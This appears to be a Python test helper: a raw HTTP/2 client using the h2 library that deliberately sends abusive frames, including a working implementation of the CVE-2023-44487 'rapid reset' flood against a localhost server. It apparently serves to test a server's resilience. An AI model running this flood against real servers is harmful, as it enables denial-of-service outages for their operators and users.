"""A raw HTTP/2 client (the `h2` library over a real TLS socket) that can misbehave on purpose.

httpx keeps HTTP/2 well-behaved; an abuse test needs frames a polite client never sends, such
as a RST_STREAM right behind every HEADERS (CVE-2023-44487, "rapid reset").
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

READ_SIZE = 65536
BATCH = 100
"""Streams opened and reset per write: the attack packs many into each TLS record."""


@dataclass
class FloodReport:
    """What a rapid-reset flood achieved."""

    streams_reset: int = 0
    connections: int = 0
    goaways: int = 0
    """Connections on which a GOAWAY frame was read."""
    cut_off: int = 0
    """Connections the server ended (GOAWAY or close). A client that floods may never read the
    GOAWAY: closing a socket with unread input makes the kernel send a reset (RFC 1122
    4.2.2.13), and a reset discards what the client had not read yet."""
    per_connection: list[int] = field(default_factory=list)
    """Streams opened on each connection before the server stopped accepting them."""


class H2Connection:
    """One client connection: TLS with ALPN h2, the h2 state machine, a reader task."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.goaway = asyncio.Event()
        self.closed = asyncio.Event()
        self.responses: dict[int, int] = {}
        """Stream id -> status of every response header block received."""
        self.ended: set[int] = set()
        self._reader = asyncio.create_task(self._read(reader))

    @classmethod
    async def open(cls, port: int, context: ssl.SSLContext) -> H2Connection:
        context.set_alpn_protocols(["h2"])
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", port, ssl=context, server_hostname="localhost"
        )
        assert writer.get_extra_info("ssl_object").selected_alpn_protocol() == "h2"
        connection = cls(reader, writer)
        connection.h2.initiate_connection()
        await connection.flush()
        return connection

    def request(self, method: str = "GET", path: str = "/", *, end: bool = True) -> int:
        """Queue a request's HEADERS; returns its stream id (call `flush` to send)."""
        stream_id: int = self.h2.get_next_available_stream_id()
        headers = [
            (":method", method),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", path),
        ]
        self.h2.send_headers(stream_id, headers, end_stream=end)
        return stream_id

    async def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.writer.write(data)
            await self.writer.drain()

    async def close(self) -> None:
        self._reader.cancel()
        self.writer.close()
        with contextlib.suppress(asyncio.CancelledError):
            await self._reader
        with contextlib.suppress(OSError, ssl.SSLError):
            await self.writer.wait_closed()

    async def _read(self, reader: asyncio.StreamReader) -> None:
        try:
            while data := await reader.read(READ_SIZE):
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for event in events:
                    self._handle(event)
                with contextlib.suppress(OSError):
                    await self.flush()
        except (OSError, ssl.SSLError):
            pass
        finally:
            self.closed.set()

    def _handle(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.ResponseReceived):
            status = dict(event.headers)[b":status"]
            self.responses[event.stream_id] = int(status)
        elif isinstance(event, h2.events.StreamEnded):
            self.ended.add(event.stream_id)
        elif isinstance(event, h2.events.DataReceived):
            with contextlib.suppress(h2.exceptions.ProtocolError):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway.set()


async def rapid_reset(
    port: int, context: ssl.SSLContext, *, streams: int, seconds: float
) -> FloodReport:
    """Open and at once cancel `streams` streams (or for `seconds`), reconnecting when cut off."""
    report = FloodReport()
    deadline = time.monotonic() + seconds
    while report.streams_reset < streams and time.monotonic() < deadline:
        connection = await H2Connection.open(port, context)
        report.connections += 1
        opened = 0
        cut = False
        try:
            while report.streams_reset < streams and time.monotonic() < deadline:
                if connection.goaway.is_set() or connection.closed.is_set():
                    break
                for _ in range(BATCH):
                    stream_id = connection.request()
                    connection.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                    opened += 1
                    report.streams_reset += 1
                await connection.flush()
                await asyncio.sleep(0)  # let the reader see a GOAWAY
        except (h2.exceptions.ProtocolError, OSError, ssl.SSLError):
            cut = True  # the server closed the connection under us
        finally:
            report.per_connection.append(opened)
            report.goaways += connection.goaway.is_set()
            report.cut_off += cut or connection.goaway.is_set() or connection.closed.is_set()
            await connection.close()
    return report
